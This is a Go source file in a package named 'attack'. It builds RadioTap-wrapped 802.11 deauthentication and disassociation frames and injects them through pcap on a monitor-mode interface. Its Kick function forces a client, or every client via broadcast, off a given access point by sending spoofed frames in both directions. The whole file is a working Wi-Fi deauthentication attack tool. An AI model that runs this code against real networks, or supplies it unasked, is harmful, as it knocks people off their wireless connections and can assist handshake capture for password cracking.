package attack

import (
	"fmt"
	"net"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcap"
)

// Injector writes raw 802.11 management frames through pcap.
type Injector struct {
	handle *pcap.Handle
	iface  string
}

// NewInjector opens a pcap handle on a monitor-mode interface.
func NewInjector(iface string) (*Injector, error) {
	handle, err := pcap.OpenLive(iface, 65536, true, pcap.BlockForever)
	if err != nil {
		return nil, fmt.Errorf("open pcap for injection on %s: %w", iface, err)
	}
	return &Injector{handle: handle, iface: iface}, nil
}

func (inj *Injector) Close() {
	if inj.handle != nil {
		inj.handle.Close()
	}
}

// Kick sends deauthentication and disassociation frames in both directions
// between bssid and client. A broadcast client only gets the AP-side frames.
func (inj *Injector) Kick(bssid, client net.HardwareAddr, reason layers.Dot11Reason) error {
	frames, err := kickFrames(bssid, client, reason)
	if err != nil {
		return err
	}
	for _, f := range frames {
		if err := inj.handle.WritePacketData(f); err != nil {
			return fmt.Errorf("inject on %s: %w", inj.iface, err)
		}
	}
	return nil
}

func kickFrames(bssid, client net.HardwareAddr, reason layers.Dot11Reason) ([][]byte, error) {
	type hop struct {
		kind     layers.Dot11Type
		dst, src net.HardwareAddr
	}
	hops := []hop{
		{layers.Dot11TypeMgmtDeauthentication, client, bssid},
		{layers.Dot11TypeMgmtDisassociation, client, bssid},
	}
	if !isBroadcast(client) {
		hops = append(hops,
			hop{layers.Dot11TypeMgmtDeauthentication, bssid, client},
			hop{layers.Dot11TypeMgmtDisassociation, bssid, client},
		)
	}

	frames := make([][]byte, 0, len(hops))
	for _, h := range hops {
		f, err := buildMgmtFrame(h.kind, h.dst, h.src, bssid, reason)
		if err != nil {
			return nil, err
		}
		frames = append(frames, f)
	}
	return frames, nil
}

// buildMgmtFrame serializes a RadioTap-wrapped deauth or disassoc frame.
func buildMgmtFrame(kind layers.Dot11Type, addr1, addr2, addr3 net.HardwareAddr, reason layers.Dot11Reason) ([]byte, error) {
	var body gopacket.SerializableLayer
	switch kind {
	case layers.Dot11TypeMgmtDeauthentication:
		body = &layers.Dot11MgmtDeauthentication{Reason: reason}
	case layers.Dot11TypeMgmtDisassociation:
		body = &layers.Dot11MgmtDisassociation{Reason: reason}
	default:
		return nil, fmt.Errorf("unsupported frame type %v", kind)
	}

	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{ComputeChecksums: true, FixLengths: true}
	err := gopacket.SerializeLayers(buf, opts,
		&layers.RadioTap{},
		&layers.Dot11{
			Address1: addr1,
			Address2: addr2,
			Address3: addr3,
			Type:     kind,
		},
		body,
	)
	if err != nil {
		return nil, fmt.Errorf("serialize %v frame: %w", kind, err)
	}
	return buf.Bytes(), nil
}

func isBroadcast(mac net.HardwareAddr) bool {
	for _, b := range mac {
		if b != 0xff {
			return false
		}
	}
	return len(mac) == 6
}
